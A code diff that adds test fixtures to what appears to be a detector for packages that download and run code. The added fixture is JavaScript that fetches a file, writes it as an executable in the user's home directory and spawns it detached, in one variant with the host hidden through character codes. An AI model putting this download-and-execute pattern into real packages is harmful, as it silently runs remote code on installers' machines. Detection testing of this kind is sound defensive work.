@@ -3,8 +3,25 @@ import { runsDownloadedCode } from './runs-downloaded-code.ts';
 
 const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };
 
+const UPDATES = `const fs = require('fs'), path = require('path'), os = require('os'), { spawn } = require('child_process'); exports.Updates = class { constructor(at, codes) { this.at = at; this.codes = codes; } async install() { const file = path.join(os.homedir(), '.a', 'next.exe'); fs.writeFileSync(file, Buffer.from(await (await fetch(ADDRESS)).arrayBuffer())); spawn(file, [], { detached: true, stdio: 'ignore' }).unref(); } };`;
+
 examine(runsDownloadedCode, {
   speaks: [
+    {
+      when: 'an application is updated from where it says, and its next version outlives this one',
+      files: { 'index.js': UPDATES.replace('ADDRESS', 'this.at + "/next"') },
+      weight: 'weak',
+    },
+    {
+      when: 'an application is updated from a host that stands in the package, and what was fetched outlives it',
+      files: { 'index.js': UPDATES.replace('ADDRESS', '"https://updates.invalid/next"') },
+      weight: 'strong',
+    },
+    {
+      when: 'where it is updated from was hidden in the package',
+      files: { 'index.js': UPDATES.replace('ADDRESS', 'String.fromCharCode(...this.codes) + "/next"') },
+      weight: 'strong',
+    },
     {
       when: 'it is put into an element and taken out of it again',
       files: {
